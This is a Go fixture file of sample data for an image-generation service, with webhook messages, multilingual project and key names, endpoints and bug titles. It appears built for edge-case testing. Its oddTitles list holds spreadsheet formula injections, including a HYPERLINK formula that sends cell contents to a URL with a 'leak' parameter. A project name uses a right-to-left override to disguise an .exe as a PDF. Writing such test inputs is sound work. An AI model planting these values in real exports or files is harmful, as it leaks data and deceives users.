package sample

import (
	"slices"
	"strconv"
)

const consentAccepted = "All cookie categories accepted (via banner)"

var otherDeliveries = []string{
	"Webhook delivered: credit.low_balance",
	"Webhook delivered: generation.canceled",
	"Webhook delivered: generation.canceled",
	"Webhook delivered: generation.deleted",
	"Webhook delivered: order.paid",
	"Webhook delivered: subscription.updated",
}

// refusals are the answers with which an endpoint refuses a delivery.
var refusals = []string{
	"HTTP 503", "HTTP 503", "HTTP 502", "HTTP 500", "HTTP 504", "HTTP 429", "no answer within 10 s",
	"connection refused", "certificate has expired",
	`HTTP 500, body "<!doctype html><title>Internal Server Error</title><p>Something went wrong while this page was built. Please try again in a minute, or tell support@northwind.com the reference 0x7f3a."`,
}

// projects are the projects of members. Some names hold invisible characters, or
// characters that reverse the text.
var projects = []string{
	"Autumn campaign", "Kampagne Frühjahr", "Été à Lyon", "春の新製品", "冬季新品发布", "가을 룩북", "Рекламный ролик 30 с",
	"حملة الخريف", "קמפיין סתיו", "Onboarding film", "Store front 2026", "Trade fair, Köln", "Packaging \u00abNord\u00bb",
	"Podcast covers", "Product turntables", "invoice_\u202efdp.exe", "Q3\u200b\u00a0teaser", "re\u00adbrand", "A/B test \u2116 4", "B-roll 🎬",
}

var newsTexts = []string{
	`{member} mentioned you in "{project}"`,
	`{member} mentioned you in "{project}"`,
	`{member} commented on "{project}": {n} frames to go`,
	`{member} shared {n} results of "{project}" with you`,
	`{member} shared {n} results of "{project}" with you`,
	`Batch of {n} generations in "{project}" is complete`,
	`Batch of {n} generations in "{project}" is complete`,
	`Weekly report: {n} generations by {member}`,
	`{model} is slower than usual, about {n} s a generation`,
	`{model} has a new version`,
	`"{project}" was moved to the archive`,
}

// keyNames are the names that members give to their API keys.
var keyNames = []string{
	"prod-render", "staging", "ci-pipeline", "figma-plugin", "nightly batch", "mobile app (iOS)", "mobile app (Android)",
	"Ana's laptop", "画像生成バッチ", "Тестовый стенд", "legacy \"v1\" import", "@team/renderer", "zapier, read only", "prod\u200b-render",
	"Kästners Werkbank", "cms-preview", "loadtest 2026", "=prod", "data science notebook", "partner: Litware",
}

var endpointURLs = []string{
	"https://hooks.northwind.com/renders", "https://api.northwind.com/v2/webhooks/media", "https://ops.northwind.com/in?team=brand&format=json",
	"https://studio.northwind.com/hooks/générations", "https://cms.northwind.com/webhook", "https://billing.northwind.com/events",
	"https://shop.northwind.com/api/hooks/previews", "https://automation.litware.example/w/9f31",
}

var domainNames = []string{
	"media.northwind.com", "cdn.northwind.com", "images.northwind.com", "api.northwind.com", "studio.northwind.com", "bücher.northwind.com",
	"assets.northwind-brand.example", "go.northwind.com", "preview.northwind.com", "video.northwind.com", "lookbook.northwind.com",
}

// nth is the nth name of a list that may run out: "x", later "x" with a number
// put in at the given sign.
func nth(names []string, n int, sign byte) string {
	s := names[n%len(names)]
	if round := n / len(names); round > 0 {
		at := slices.Index([]byte(s), sign)
		s = s[:at] + "-" + strconv.Itoa(round+1) + s[at:]
	}
	return s
}

// customers are the companies that pay.
var customers = []string{
	"Northwind SAS", "Northwind GmbH", "Northwind Ltd", "Northwind Inc.", "ノースウィンド株式会社", "Northwind Polska sp. z o.o.",
	"Northwind Ibérica S.L.", "Northwind A/S", "Northwind Česko s.r.o.", "Northwind Türkiye A.Ş.",
}

// bugTitles are as their reporters typed them, odd ones included.
var bugTitles = []string{
	"Export stops at 99 % when a prompt contains an emoji 🙃",
	"Thumbnails are blurred on a screen with 150 % scaling",
	"Search finds \"Kastner\" but not \"Kästner\"",
	"The balance is shown as NaN right after a refund",
	"Dark theme: the cancel button cannot be told from the background",
	"Batch import reads 12.000 as twelve",
	"Wrong time zone in the weekly report\nSeen: 14:00 for a batch that ran at 16:00 in Lyon.\nExpected: local time, or UTC with a note.",
	"プロンプトの改行が消える",
	"上传 40 MB 以上的图片时页面没有任何提示,直到超时才显示错误",
	"Кнопка «Повторить» не работает после ошибки 503",
	"الأرقام معكوسة في صفحة الفواتير",
	"Two members can hold the last seat at once when both accept their invitation within the same second; the second one then sees an empty workspace, has no role at all, cannot leave, and is counted on the invoice. It happened on 12 March and again last week, each time with people who had the mail open side by side.",
	"Webhook signature does not match when the body contains U+2028",
	"Copying a prompt adds\ta tab and a\r\nWindows line break",
}

// oddTitles would do something in a spreadsheet.
var oddTitles = []string{
	`=HYPERLINK("https://hooks.northwind.com/?leak="&A1,"Open report") in a prompt becomes a link in the CSV`,
	"@mentions in comments send no notification",
	"+1 on the missing dark icons, still there in 4.2",
	"-0.004 credits shown as a charge after a refund",
	"=SUM(F2:F99) over exported amounts gives 0, they are texts",
	"'Seed' field loses its leading apostrophe",
	"＝１＋１ typed with a Japanese keyboard is evaluated in the cost sheet",
	"\tIndented title, pasted from a table",
}

var jobTitles = []string{
	"Producer", "Art director", "Senior compliance officer", "Développeuse", "Réalisateur", "デザイナー", "Marketing", "Data analyst", "Head of Studio", "Werkstudent",
}
